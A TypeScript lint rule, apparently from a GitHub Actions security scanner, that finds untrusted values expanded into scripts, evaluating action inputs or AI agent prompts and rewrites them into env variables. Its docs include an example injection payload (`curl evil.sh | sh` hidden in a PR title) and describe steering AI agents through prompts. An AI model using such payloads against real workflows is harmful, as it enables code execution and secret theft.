import { type Fix } from '../../engine/types';
import { defineRule } from '../../engine/rule';
import { type Confidence, type Severity } from '../../analysis/levels';
import type { AnalysisContext } from '../../engine/context';
import type { ExpressionOccurrence } from '../../expressions/parse';
import type { ScalarValue } from '../../model/common';
import type { Job, Step } from '../../model/workflow';
import {
  actionTaint,
  describeTaint,
  expressionTaints,
  taintSeverity,
  workflowTaint,
  type Taint,
  type TaintedRef,
  type TaintScope,
} from '../../analysis/taint';
import { describeReach, type Reach } from '../../analysis/triggers';
import { passedByVisibleCaller, type CalleeSink, type SinkHit } from '../../analysis/callee-flow';
import { callSiteOf, reportThroughCall } from '../_untrusted-input/through-calls';
import { AI_AGENT_PROMPTS, INPUT_SINKS, type InputSink, type SinkKind } from '../../knowledge/untrusted-input';
import { inRange, parseVersion } from '../../analysis/supply-chain/versions';
import { languageOfShell, moveExpressionToEnv, type ScriptLanguage } from '../../fixes/script-env';
import { stepShell } from '../../analysis/shell-words';

export default defineRule({
  meta: {
    id: 'template-injection',
    title: 'Expression injection into a script',
    description:
      'An attacker-controllable value (a PR title, a branch name, a comment body, an output or env var derived from one...) is expanded by `${{ }}` into a run: script, a github-script, an action input the action evaluates (as code, shell text, command-line arguments or a template), or an AI agent prompt.',
    severity: 'high',
    confidence: 'high',
    category: 'untrusted-input',
    aliases: ['template-injection', 'expression-injection', 'injection', 'expression', 'code-injection'],
    appliesTo: ['workflow', 'action'],
    fixable: true,
    fixSafety:
      "Safe when every rewritten occurrence sat inside double quotes, single quotes, an expanding heredoc or a comment of a bash/sh script, in a PowerShell double-quoted string, a cmd script, a whole Python string literal or a JavaScript string: the script then reads the same text for every value that holds no character the language interprets there (the values that were the injection). Unsafe when an occurrence was unquoted: it is rewritten as an unquoted `${NAME}` so word splitting and the argument count stay the same (an empty value still gives no argument), but quotes and operators in the value are no longer shell syntax, and a value run as a command no longer runs `&&` or pipes. Unquoted JavaScript (the value was code) and unquoted PowerShell (the value becomes one argument) are unsafe too. A literal heredoc (`<<'EOF'`), `$'...'` strings and single-quoted YAML scalars get no fix.",
    docs: {
      risk: 'GitHub substitutes `${{ }}` expressions into the script text before the shell runs it. A pull request title such as `"; curl evil.sh | sh; echo "` becomes shell code running with the job\'s token and secrets. The same holds for values that carry such text further: env vars and step or job outputs set from it, inputs of a composite action or reusable workflow, and prompts of AI agents that can run tools. Severity follows who can trigger the workflow: high when any GitHub user can and the job has secrets (pull_request_target, issue_comment, issues, workflow_run...), medium for fork pull requests, reusable workflows and composite actions, low when only maintainers can.',
      remediation:
        'Pass the value through an environment variable and reference it quoted: `env: TITLE: ${{ github.event.pull_request.title }}` and `echo "$TITLE"` (bash/sh), `$env:TITLE` (pwsh), `%TITLE%` (cmd), `os.environ["TITLE"]` (python), `process.env.TITLE` (actions/github-script), `$env:TITLE` (Amadevus/pwsh-script). The quick-fix does that, reusing an existing env entry with the same value; an unquoted expansion stays unquoted so the argument count cannot change (see Fix safety). Numbers, SHAs, ids, booleans and statuses are never reported. Other evaluated action inputs (ssh-action scripts, sonarqube-scan-action args before 5.3.1, the lycheeVersion of lychee-action before 2.0.2, tibdex/backport templates...; the list with versions and sources is in knowledge/untrusted-input.json) get the advice for their kind and no fix: pass data the way the action documents (its `envs:`, a template variable). AI agent prompts have no mechanical fix: gate the workflow on the author\'s association and keep untrusted text out of the prompt.',
      severity:
        "Inputs of a reusable workflow or composite action take their severity from the callers found in this repository (workflows, and composite actions anywhere in it calling a local action): attacker text a caller passes (e.g. a pull_request_target job passing the PR title) is reported at that caller's `with:` entry, as severe as the caller's trigger, with the path into the callee (and through callees that pass the input on, up to three calls deep) as related information; the callee itself reports nothing for it. Callers of callers are followed the same way. Callers passing only constants, matrix values or trusted contexts give no finding. With no visible caller (a published action, a callee called from elsewhere) the finding is low: it depends on what callers pass. `workflow_dispatch` inputs are low (only people with write access dispatch). Text on `pull_request` is low: a fork's run has a read-only token and no secrets, and its author can change the workflow itself.",
      vulnerableExample:
        'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n',
      safeExample:
        'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          PR_TITLE: ${{ github.event.pull_request.title }}\n        run: echo "$PR_TITLE"\n',
      references: [
        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
        'https://securitylab.github.com/resources/github-actions-untrusted-input/',
      ],
    },
  },

  job(job, wf, ctx) {
    const taint = workflowTaint(wf, ctx);
    const site = callSiteOf(job, undefined, taint.jobScope(job), taint.reachOf(job));
    if (site) reportThroughCall(ctx, site, calleeSinks, rateThroughCall, INJECTION_EFFECT);
  },

  step(step, job, wf, ctx) {
    const taint = workflowTaint(wf, ctx);
    const scope = taint.stepScope(step);
    const reach = taint.reachOf(job, step);
    for (const { value, sink } of sinksOf(step, job))
      checkValue(step, value, sink, scope, reach, ctx, [wf.env, job.env]);
    const site = callSiteOf(job, step, scope, reach);
    if (site) reportThroughCall(ctx, site, calleeSinks, rateThroughCall, INJECTION_EFFECT);
  },

  actionStep(step, action, ctx) {
    const scope = actionTaint(action, ctx).stepScope(step);
    for (const { value, sink } of sinksOf(step, undefined)) checkValue(step, value, sink, scope, 'action', ctx, []);
    const site = callSiteOf(undefined, step, scope, 'action');
    if (site) reportThroughCall(ctx, site, calleeSinks, rateThroughCall, INJECTION_EFFECT);
  },
});

const INJECTION_EFFECT =
  'there it becomes code (or an agent prompt). Pass a value that cannot carry attacker text, or fix the callee: move the input to env: and reference the variable quoted.';

type Sink =
  | { kind: 'script'; lang?: ScriptLanguage; what: string }
  | { kind: 'action-input'; sinkKind: SinkKind; what: string; versionNote?: string }
  | { kind: 'prompt'; what: string };

const SINK_RANK: Record<SinkKind, number> = { code: 4, shell: 3, template: 2, args: 1 };

/**
 * The sink an action input is, for the version used: the most dangerous entry whose version range holds every version
 * the ref can name. With a ref that names no version (a SHA, a branch), a ranged entry still counts, flagged uncertain.
 */
function inputSink(
  sinks: readonly InputSink[] | undefined,
  input: string,
  ref: string | undefined,
): { sink: InputSink; uncertain: boolean } | undefined {
  const version = ref ? parseVersion(ref) : undefined;
  let best: { sink: InputSink; uncertain: boolean } | undefined;
  for (const sink of sinks ?? []) {
    if (sink.input !== input) continue;
    const range = [sink.since && `>= ${sink.since}`, sink.until && `< ${sink.until}`].filter(Boolean).join(', ');
    if (range && version && !inRange(version, range)) continue;
    const candidate = { sink, uncertain: !!range && !version };
    if (
      !best ||
      Number(best.uncertain) - Number(candidate.uncertain) > 0 ||
      (best.uncertain === candidate.uncertain && SINK_RANK[sink.kind] > SINK_RANK[best.sink.kind])
    )
      best = candidate;
  }
  return best;
}

const SINK_WHAT: Record<SinkKind, string> = {
  code: 'which it runs as code',
  shell: 'which it runs as a shell script',
  args: 'which it passes on as command-line arguments',
  template: 'which it evaluates as a template',
};

const SINK_ADVICE: Record<SinkKind, string> = {
  code: 'it becomes code. Pass it as data the code reads (an environment variable, a file) instead.',
  shell: 'it becomes shell code. Pass it through an environment variable the script reads, quoted, instead.',
  args: 'it can add options to the command. Keep untrusted text out of the arguments, or validate it first.',
  template:
    "template syntax in it runs. Keep the template constant and refer to the pull request's fields through the template's own variables.",
};

/** The values of a step that are code or a prompt: its run: script, github-script code, executing inputs, prompts. */
function sinksOf(step: Step, job: Job | undefined): Array<{ value: ScalarValue; sink: Sink }> {
  const out: Array<{ value: ScalarValue; sink: Sink }> = [];
  if (step.run) {
    const shell = stepShell(step, job);
    out.push({ value: step.run, sink: { kind: 'script', lang: languageOfShell(shell), what: `the ${shell} script` } });
  }
  const slug = step.uses?.slug;
  if (!slug || !step.with) return out;
  const sinks = INPUT_SINKS.get(slug);
  const prompts = AI_AGENT_PROMPTS.get(slug);
  for (const entry of step.with.entries) {
    if (!entry.value?.expressions.length) continue;
    const input = entry.name.toLowerCase();
    const found = inputSink(sinks, input, step.uses?.ref);
    if (found?.sink.language) {
      const lang = found.sink.language;
      const what =
        slug === 'actions/github-script' ? 'the github-script code' : `${slug}'s ${entry.name} (${lang} code)`;
      out.push({ value: entry.value, sink: { kind: 'script', lang, what } });
    } else if (found) {
      const { sink, uncertain } = found;
      const versionNote = uncertain
        ? `only in versions ${[sink.since && `from ${sink.since}`, sink.until && `before ${sink.until}`].filter(Boolean).join(' ')}; the ref used names no version`
        : undefined;
      out.push({
        value: entry.value,
        sink: {
          kind: 'action-input',
          sinkKind: sink.kind,
          what: `${slug}'s ${entry.name} input, ${SINK_WHAT[sink.kind]}`,
          versionNote,
        },
      });
    } else if (prompts?.includes(input))
      out.push({ value: entry.value, sink: { kind: 'prompt', what: `the ${entry.name} of AI agent ${slug}` } });
  }
  return out;
}

/** The sinks of one callee step a caller's text reaches (the caller reports them). */
function calleeSinks(step: Step, job: Job | undefined, scope: TaintScope): SinkHit[] {
  return sinksOf(step, job).flatMap(({ value, sink }) =>
    value.expressions.flatMap((expr) =>
      expressionTaints(expr, scope).map((hit) => ({ span: expr.span, what: sink.what, taint: hit.taint })),
    ),
  );
}

/** Severity follows who can run the caller that passes the text. */
function rateThroughCall(entering: Taint, _sink: CalleeSink, reach: Reach | 'action') {
  return rating(entering, reach);
}

/** Beyond this many expressions in one script, findings carry no fix: each fix rewrites every occurrence, which would be quadratic. */
const MAX_FIXABLE_EXPRESSIONS = 500;

function checkValue(
  step: Step,
  value: ScalarValue,
  sink: Sink,
  scope: TaintScope,
  reach: Reach | 'action',
  ctx: AnalysisContext,
  outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>,
): void {
  // Identical expressions share one fix (it rewrites all of them at once).
  const fixes = new Map<string, Fix | undefined>();
  // Text shared through an anchor is not rewritten: the edit would change every alias of it, each in its own step.
  const fixable =
    sink.kind === 'script' &&
    !!sink.lang &&
    !value.aliasSpan &&
    !value.anchored &&
    value.expressions.length <= MAX_FIXABLE_EXPRESSIONS;
  for (const expr of value.expressions) {
    // Text a visible caller passes in is reported at that caller's `with:` entry. Outputs an action backslash-escapes
    // (tj-actions/changed-files since v41) are inert in a POSIX shell script.
    const hits = expressionTaints(expr, scope).filter(
      (h) =>
        !passedByVisibleCaller(h.taint) && !(h.taint.shellEscaped && sink.kind === 'script' && sink.lang === 'posix'),
    );
    if (hits.length === 0) continue;
    const hit = strongestHit(hits);
    const rated = rating(hit.taint, reach);
    const severity = rated.severity;
    const confidence = sink.kind === 'action-input' && sink.versionNote ? 'low' : rated.confidence;
    const key = ctx.text.slice(expr.span.start, expr.span.end);
    if (fixable && !fixes.has(key))
      fixes.set(key, fixFor(step, value, expr, hit, (sink as { lang: ScriptLanguage }).lang, ctx.text, outerEnv));
    const fix = fixes.get(key);
    const advice =
      sink.kind === 'prompt'
        ? "an attacker can instruct the agent. Keep untrusted text out of the prompt and gate the workflow on the author's association."
        : sink.kind === 'action-input'
          ? `${SINK_ADVICE[sink.sinkKind]}${sink.versionNote ? ` (${sink.versionNote})` : ''}`
          : sink.lang === 'javascript'
            ? 'it becomes JavaScript code. Move it to env: and read process.env.'
            : sink.lang === 'pwsh'
              ? 'it becomes PowerShell code. Move it to env: and read $env:NAME.'
              : 'it becomes shell code. Move it to env: and reference the variable quoted.';
    ctx.report({
      message: `${describeTaint(hit.taint)} ${sourcePhrase(hit.taint, reach)} and is expanded into ${sink.what}: ${advice} (${reachPhrase(hit.taint, reach)})`,
      // Through an alias the finding is where this step uses the text; the anchored expression is related.
      span: value.aliasSpan ?? expr.span,
      ...(value.aliasSpan ? { related: [{ span: expr.span, message: 'the anchored text this alias repeats' }] } : {}),
      severity,
      confidence,
      fixes: fix ? [fix] : [],
      properties: { context: hit.taint.origin, via: hit.taint.via, source: hit.taint.source, reach, sink: sink.kind },
    });
  }
}

const CONF_RANK: Record<Confidence, number> = { high: 3, medium: 2, low: 1 };

function strongestHit(hits: TaintedRef[]): TaintedRef {
  return hits.reduce((a, b) => (CONF_RANK[b.taint.confidence] > CONF_RANK[a.taint.confidence] ? b : a));
}

/** Severity follows who can set the value; confidence follows how sure we are that it is attacker text. */
export function rating(t: Taint, reach: Reach | 'action'): { severity: Severity; confidence: Confidence } {
  return { severity: taintSeverity(t, reach), confidence: t.confidence };
}

function sourcePhrase(t: Taint, reach: Reach | 'action'): string {
  switch (t.source) {
    case 'dispatch-input':
      return 'is free text from whoever dispatches the workflow';
    case 'call-input':
      return t.caller
        ? `is passed by a caller (${t.caller}) that forwards its own input: it depends on what ${callerKind(t.caller)} callers pass`
        : 'comes from the calling workflow; no caller is visible in this repository, so it depends on what callers pass';
    case 'action-input':
      return t.caller
        ? `is passed by a caller (${t.caller}) that forwards its own input: it depends on what ${callerKind(t.caller)} callers pass`
        : 'comes from the workflow using this action; no caller is visible in this repository, so it depends on what callers pass';
    default: {
      const who =
        (t.reach ?? reach) === 'maintainer'
          ? 'may carry text written by others (e.g. merged commits)'
          : 'can be set by an outsider';
      return who;
    }
  }
}

/** `path:line` of a caller's `with:` entry: a composite action's metadata file, or a workflow. */
function callerKind(where: string): string {
  return /(^|\/)action\.ya?ml:\d+$/.test(where) ? "that action's" : "that workflow's";
}

function reachPhrase(t: Taint, reach: Reach | 'action'): string {
  if (t.source === 'dispatch-input') return 'only users with write access can dispatch it';
  return describeReach(t.reach ?? reach);
}

function fixFor(
  step: Step,
  script: ScalarValue,
  expr: ExpressionOccurrence,
  hit: TaintedRef,
  lang: ScriptLanguage,
  text: string,
  outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>,
): Fix | undefined {
  const segments = hit.ref.segments;
  // `${{ env.NAME }}` already names a process environment variable: read it in place.
  const existingVar =
    segments[0] === 'env' && segments.length === 2 && expr.inner.trim().toLowerCase() === `env.${segments[1]}`
      ? expr.inner.trim().slice(4)
      : undefined;
  const baseName = segments
    .filter((s) => s !== '*' && s !== 'event' && s !== 'outputs' && s !== 'github')
    .slice(-2)
    .join('_');
  return moveExpressionToEnv({ text, step, script, expr, lang, baseName, outerEnv, existingVar });
}
